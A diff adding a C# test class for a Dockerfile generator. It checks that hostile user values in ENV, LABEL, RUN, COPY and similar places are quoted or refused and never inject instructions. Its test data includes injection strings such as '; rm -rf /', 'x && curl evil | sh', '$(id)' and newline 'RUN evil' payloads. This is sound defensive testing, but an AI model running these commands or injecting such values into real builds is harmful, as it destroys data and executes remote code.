@@ -1,0 +1,337 @@
+using Containerize.Sdk.Dockerfiles;
+using Containerize.Sdk.Planning;
+using Containerize.Sdk.Slicing;
+
+namespace Containerize.Sdk.Tests.Dockerfiles;
+
+/// <summary>
+/// Every place a user's value reaches the Dockerfile, with values built to break out of it. Each value either comes
+/// out so that the engine reads exactly the value, or the writer refuses it (ArgumentException, which the task reports
+/// as an error); and a written Dockerfile never holds an instruction the spec did not ask for.
+/// </summary>
+[TestClass]
+public sealed class HostileValueTests
+{
+    private static readonly string[] Values =
+    {
+        "plain",
+        "a b",
+        "a\"b",
+        "it's",
+        "$HOME",
+        "${PATH}",
+        "a\\b",
+        "trailing\\",
+        "\\",
+        "`id`",
+        "$(id)",
+        "; rm -rf /",
+        "x && curl evil | sh",
+        "#comment",
+        "<<EOF",
+        "tab\there",
+        "ünïcödé 名前",
+        "\u2028RUN evil",
+        "a=b",
+        "a,b",
+        "--platform=linux/arm64",
+        "*",
+        "[x]",
+        "",
+        "\nRUN evil",
+        "x\nRUN evil",
+        "x\r\nRUN evil",
+        "x\rRUN evil",
+        "x\n",
+    };
+
+    private delegate void Apply(ContainerSpec spec, string value);
+
+    private delegate string Read(string dockerfile);
+
+    /// <summary>Where a value goes, how to read it back from the text, and which values the place must accept.</summary>
+    private sealed record Place(string Name, Apply Apply, Read Read, Func<string, bool> MustAccept);
+
+    private static readonly Place[] Places =
+    {
+        new("ENV value", (spec, v) => spec.EnvironmentVariables = Pair("GREETING", v), text => Pair(text, "ENV", "GREETING"), Quotable),
+        new("ENV name", (spec, v) => spec.EnvironmentVariables = Pair(v, "x"), text => DockerfileReader.Pairs(DockerfileReader.Single(text, "ENV")).Single().Key, Bare),
+        new("LABEL value", (spec, v) => spec.Labels = Pair("org.example.note", v), text => Pair(text, "LABEL", "org.example.note"), Quotable),
+        new("LABEL key", (spec, v) => spec.Labels = Pair(v, "x"), text => DockerfileReader.Pairs(DockerfileReader.Instructions(text).First(line => line.Keyword == "LABEL").Arguments).Single().Key, Quotable),
+        new("ENTRYPOINT argument", (spec, v) => spec.Entrypoint = new[] { "dotnet", "Web.dll", v }, text => DockerfileReader.JsonArray(DockerfileReader.Single(text, "ENTRYPOINT"))[2], _ => true),
+        new("CMD argument", (spec, v) => spec.Command = new[] { v }, text => DockerfileReader.JsonArray(DockerfileReader.Single(text, "CMD")).Single(), _ => true),
+        new("HEALTHCHECK command", (spec, v) => spec.HealthCheck = new HealthCheckSpec { Command = new[] { "curl", "-f", v } }, text => HealthcheckCommand(text)[2], _ => true),
+        new("HEALTHCHECK --interval", (spec, v) => spec.HealthCheck = new HealthCheckSpec { Command = new[] { "true" }, Interval = v }, text => HealthcheckOption(text, "interval"), Bare),
+        new("STOPSIGNAL", (spec, v) => spec.StopSignal = v, text => DockerfileReader.Single(text, "STOPSIGNAL"), Bare),
+        new("USER", (spec, v) => spec.User = v, text => DockerfileReader.Single(text, "USER"), Bare),
+        new("final base image", (spec, v) => spec.BaseImage = v, text => FromImage(text, "final"), Bare),
+        new("sdk image", (spec, v) => spec.SdkImage = v, text => FromImage(text, "build"), Bare),
+        new("OS package (RUN word)", (spec, v) => { spec.PackageManager = OsPackageManager.Apk; spec.OsPackages = new[] { "curl", v }; }, text => RunWords(text, "apk")[4], Quotable),
+        new("apt package (RUN word)", (spec, v) => { spec.PackageManager = OsPackageManager.Apt; spec.OsPackages = new[] { v }; }, text => RunWords(text, "apt-get")[7], Quotable),
+        new("publish property (RUN word)", (spec, v) => spec.PublishProperties = Pair("InformationalVersion", v), text => RunWords(text, "dotnet", "publish").Last().Substring("-p:InformationalVersion=".Length), Quotable),
+        new("Configuration (RUN word)", (spec, v) => spec.Configuration = v, text => After(RunWords(text, "dotnet", "publish"), "-c"), Quotable),
+        new("RuntimeIdentifier (RUN word)", (spec, v) => spec.RuntimeIdentifier = v, text => After(RunWords(text, "dotnet", "restore"), "-r"), Quotable),
+        new("project path (RUN word)", (spec, v) => spec.ProjectPath = v, text => RunWords(text, "dotnet", "restore")[2], Quotable),
+        new("restore input (COPY)", (spec, v) => spec.RestoreInputs = new[] { "src/" + v + "/Web.csproj" }, text => DockerfileReader.JsonArray(CopyLines(text)[0])[0].Substring(4).Replace("/Web.csproj", ""), Path),
+        new("local feed (COPY)", (spec, v) => spec.RestoreInputs = new[] { "feeds/" + v + "/" }, text => DockerfileReader.JsonArray(CopyLines(text)[0])[1][6..^1], Path),
+        new("static file source (COPY)", (spec, v) => spec.Files = new[] { new ContainerFileSpec(v, "/etc/app/", null) }, text => DockerfileReader.JsonArray(CopyLines(text)[2])[0], Path),
+        new("static file destination (COPY)", (spec, v) => spec.Files = new[] { new ContainerFileSpec("config/app.json", v, null) }, text => DockerfileReader.JsonArray(CopyLines(text)[2])[1], Path),
+        new("WORKDIR", (spec, v) => spec.WorkingDirectory = v, text => DockerfileReader.Instructions(text).Where(line => line.Keyword == "WORKDIR").Last().Arguments, Path),
+        new("sliced file (RUN word)", (spec, v) => spec.Slices = new SliceLayout(new[] { new SlicedFile(v, Slice.Packages) }, includeSymbols: false), SlicedFile, Quotable),
+    };
+
+    public static IEnumerable<object[]> PlaceNames() => Places.Select(place => new object[] { place.Name });
+
+    [TestMethod]
+    [DynamicData(nameof(PlaceNames))]
+    public void AValueComesOutMeaningItselfOrIsRefused(string placeName)
+    {
+        Place place = Places.Single(candidate => candidate.Name == placeName);
+        var failures = new List<string>();
+        foreach (string value in Values)
+        {
+            ContainerSpec spec = FullSpec();
+            place.Apply(spec, value);
+            Dockerfile model;
+            string text;
+            try
+            {
+                // The planner quotes some words itself (the slice moves), so it may refuse a value too.
+                model = DockerfilePlanner.Plan(spec);
+                text = DockerfileWriter.Write(model);
+            }
+            catch (ArgumentException)
+            {
+                if (place.MustAccept(value))
+                {
+                    failures.Add($"{Show(value)}: refused, but this place can hold it");
+                }
+
+                continue;
+            }
+
+            if (!place.MustAccept(value))
+            {
+                failures.Add($"{Show(value)}: written, but this place cannot hold it safely:\n{text}");
+                continue;
+            }
+
+            try
+            {
+                CollectionAssert.AreEqual(ExpectedKeywords(model), DockerfileReader.Keywords(text).ToArray(), "instructions");
+                Assert.IsFalse(text.Split('\n').Any(line => line.TrimStart().StartsWith("RUN evil", StringComparison.OrdinalIgnoreCase)), "an injected RUN");
+                Assert.AreEqual(value, place.Read(text), "the engine reads another value");
+            }
+            catch (Exception exception) when (exception is AssertFailedException or InvalidOperationException or ArgumentException or IndexOutOfRangeException or System.Text.Json.JsonException)
+            {
+                failures.Add($"{Show(value)}: {exception.Message}\n{text}");
+            }
+        }
+
+        Assert.IsEmpty(failures, placeName + "\n" + string.Join("\n\n", failures));
+    }
+
+    [TestMethod]
+    public void TheFullSpecWritesEveryKindOfInstructionOnce()
+    {
+        // The hostile-value test is only as good as the spec it starts from: every place must be in the Dockerfile.
+        string text = DockerfileWriter.Write(DockerfilePlanner.Plan(FullSpec()));
+
+        CollectionAssert.AreEqual(
+            new[]
+            {
+                "FROM", "WORKDIR", "COPY", "RUN", "COPY", "RUN",
+                "FROM", "RUN", "COPY", "WORKDIR", "ENV", "LABEL", "EXPOSE", "HEALTHCHECK", "STOPSIGNAL", "USER", "COPY", "ENTRYPOINT", "CMD", "LABEL",
+            },
+            DockerfileReader.Keywords(text).ToArray(),
+            text);
+    }
+
+    /// <summary>Through the factory, hostile property values end as a coded error or a Dockerfile that means them; never as extra instructions.</summary>
+    [TestMethod]
+    public void HostileProjectPropertiesNeverAddInstructions()
+    {
+        var failures = new List<string>();
+        foreach (string value in Values)
+        {
+            foreach (Action<ContainerSettings> apply in new Action<ContainerSettings>[]
+            {
+                settings => settings.User = value,
+                settings => settings.WorkingDirectory = "/app/" + value,
+                settings => settings.Configuration = value,
+                settings => settings.RuntimeIdentifier = "linux-" + value,
+                settings => settings.Family = value,
+                settings => settings.BaseImage = "mcr.microsoft.com/dotnet/aspnet:10.0" + value,
+                settings => settings.SdkImage = value,
+                settings => settings.ImageTag = value,
+                settings => settings.Repository = value,
+                settings => settings.AssemblyName = value,
+                settings => settings.ProjectFullPath = Planning.FactorySettings.In("src", "Web" + value, "Web.csproj"),
+                settings => settings.RestoreInputs = new[] { Planning.FactorySettings.In("src", "Web", "Web.csproj"), Planning.FactorySettings.In("src", value + ".props") },
+            })
+            {
+                ContainerSettings settings = Planning.FactorySettings.WebApp();
+                apply(settings);
+                ContainerSpecResult result = ContainerSpecFactory.Create(settings);
+                if (result.Spec == null)
+                {
+                    if (!result.Diagnostics.Any(diagnostic => diagnostic.Code.StartsWith("CTZ", StringComparison.Ordinal)))
+                    {
+                        failures.Add(Show(value) + ": no spec and no coded error");
+                    }
+
+                    continue;
+                }
+
+                Dockerfile model;
+                string text;
+                try
+                {
+                    model = DockerfilePlanner.Plan(result.Spec);
+                    text = DockerfileWriter.Write(model);
+                }
+                catch (ArgumentException)
+                {
+                    // The task reports this as CTZ1099: refused, though later than validation should.
+                    continue;
+                }
+
+                try
+                {
+                    CollectionAssert.AreEqual(ExpectedKeywords(model), DockerfileReader.Keywords(text).ToArray());
+                    Assert.IsFalse(text.Split('\n').Any(line => line.TrimStart().StartsWith("RUN evil", StringComparison.OrdinalIgnoreCase)));
+                }
+                catch (AssertFailedException exception)
+                {
+                    failures.Add($"{Show(value)}: {exception.Message}\n{text}");
+                }
+            }
+        }
+
+        Assert.IsEmpty(failures, string.Join("\n\n", failures));
+    }
+
+    /// <summary>A spec that uses every instruction the writer knows, with plain values.</summary>
+    private static ContainerSpec FullSpec() => new()
+    {
+        Mode = ContainerizeMode.Source,
+        ProjectPath = "src/Web/Web.csproj",
+        AssemblyName = "Web",
+        SdkImage = "mcr.microsoft.com/dotnet/sdk:10.0",
+        BaseImage = "mcr.microsoft.com/dotnet/aspnet:10.0",
+        UseBuildKit = true,
+        RestoreInputs = new[] { "src/Web/Web.csproj" },
+        PublishProperties = Pair("InformationalVersion", "1.0"),
+        OsPackages = new[] { "curl" },
+        PackageManager = OsPackageManager.Apt,
+        Files = new[] { new ContainerFileSpec("config/app.json", "/etc/app/", "0644") },
+        EnvironmentVariables = Pair("GREETING", "hello"),
+        Labels = Pair("org.example.note", "note"),
+        VolatileLabels = Pair("org.opencontainers.image.created", "2025-01-01T00:00:00Z"),
+        Ports = new[] { new ContainerPortSpec(8080, "tcp") },
+        HealthCheck = new HealthCheckSpec { Command = new[] { "curl", "-f", "http://localhost:8080/" }, Interval = "30s" },
+        StopSignal = "SIGTERM",
+        Entrypoint = new[] { "dotnet", "Web.dll" },
+        Command = new[] { "--urls", "http://+:8080" },
+    };
+
+    /// <summary>The instruction keywords the model asks for, in order.</summary>
+    private static string[] ExpectedKeywords(Dockerfile model)
+    {
+        var keywords = new List<string>();
+        foreach (Stage stage in model.Stages)
+        {
+            keywords.Add("FROM");
+            foreach (Instruction instruction in stage.Instructions)
+            {
+                if (instruction is CommentInstruction)
+                {
+                    continue;
+                }
+
+                string name = instruction.GetType().Name;
+                keywords.Add(name.Substring(0, name.Length - "Instruction".Length).ToUpperInvariant() switch
+                {
+                    "STOPSIGNAL" => "STOPSIGNAL",
+                    string keyword => keyword,
+                });
+            }
+        }
+
+        return keywords.ToArray();
+    }
+
+    /// <summary>ENV and LABEL values and RUN words: anything but a line break, which no quoting can hold there.</summary>
+    private static bool Quotable(string value) => value.IndexOf('\n') < 0 && value.IndexOf('\r') < 0;
+
+    /// <summary>Places written as they are: a single option-free word with nothing the engine would interpret.</summary>
+    private static bool Bare(string value) =>
+        value.Length > 0 && value[0] != '-' && !value.Any(c => char.IsWhiteSpace(c) || char.IsControl(c) || "\"'\\`$=,".Contains(c));
+
+    /// <summary>COPY and WORKDIR paths: the engine expands $, reads quotes and backslashes, and globs * ? [ in sources.</summary>
+    private static bool Path(string value) => !value.Any(c => char.IsControl(c) || "$\\\"'`*?[".Contains(c));
+
+    private static KeyValuePair<string, string>[] Pair(string key, string value) => new[] { new KeyValuePair<string, string>(key, value) };
+
+    private static string Pair(string text, string keyword, string key) =>
+        DockerfileReader.Pairs(DockerfileReader.Instructions(text).First(line => line.Keyword == keyword).Arguments).Single(pair => pair.Key == key).Value;
+
+    private static string[] HealthcheckCommand(string text)
+    {
+        string rest = DockerfileReader.Single(text, "HEALTHCHECK");
+        return DockerfileReader.JsonArray(rest.Substring(rest.IndexOf("CMD [", StringComparison.Ordinal) + 4));
+    }
+
+    private static string HealthcheckOption(string text, string option)
+    {
+        string prefix = "--" + option + "=";
+        string rest = DockerfileReader.Single(text, "HEALTHCHECK");
+        return rest.Split(' ').Single(word => word.StartsWith(prefix, StringComparison.Ordinal)).Substring(prefix.Length);
+    }
+
+    /// <summary>The image of the stage with the given name: FROM [--platform=…] image AS name.</summary>
+    private static string FromImage(string text, string stage)
+    {
+        string[] words = DockerfileReader.Instructions(text).Where(line => line.Keyword == "FROM").Select(line => line.Arguments.Split(' ')).Single(words => words[^1] == stage);
+        Assert.AreEqual("AS", words[^2]);
+        return words[^3];
+    }
+
+    /// <summary>The words /bin/sh gets for the RUN whose command starts with the given words (after any --mount options).</summary>
+    private static IReadOnlyList<string> RunWords(string text, params string[] start)
+    {
+        foreach ((string keyword, string rest) in DockerfileReader.Instructions(text).Where(line => line.Keyword == "RUN"))
+        {
+            string command = rest;
+            while (command.StartsWith("--mount=", StringComparison.Ordinal))
+            {
+                command = command.Substring(command.IndexOf(' ') + 1);
+            }
+
+            IReadOnlyList<string> words = DockerfileReader.ShellWords(command);
+            if (words.Take(start.Length).SequenceEqual(start))
+            {
+                return words;
+            }
+        }
+
+        throw new InvalidOperationException("No RUN " + string.Join(" ", start));
+    }
+
+    /// <summary>The file the build stage's move_to call gets: the words after "move_to packages", up to the planner's next ';'.</summary>
+    private static string SlicedFile(string text)
+    {
+        const string call = " move_to packages ";
+        string run = DockerfileReader.Instructions(text).Single(line => line.Keyword == "RUN" && line.Arguments.Contains(call)).Arguments;
+        string files = run.Substring(run.IndexOf(call, StringComparison.Ordinal) + call.Length);
+        int end = files.IndexOf(" ; ", StringComparison.Ordinal);
+        return DockerfileReader.ShellWords(end < 0 ? files : files.Substring(0, end)).Single();
+    }
+
+    private static string After(IReadOnlyList<string> words, string option) => words[words.ToList().IndexOf(option) + 1];
+
+    private static string[] CopyLines(string text) =>
+        DockerfileReader.Instructions(text).Where(line => line.Keyword == "COPY").Select(line => line.Arguments.Substring(line.Arguments.IndexOf('['))).ToArray();
+
+    private static string Show(string value) => "'" + value.Replace("\r", "\\r").Replace("\n", "\\n").Replace("\t", "\\t") + "'";
+}
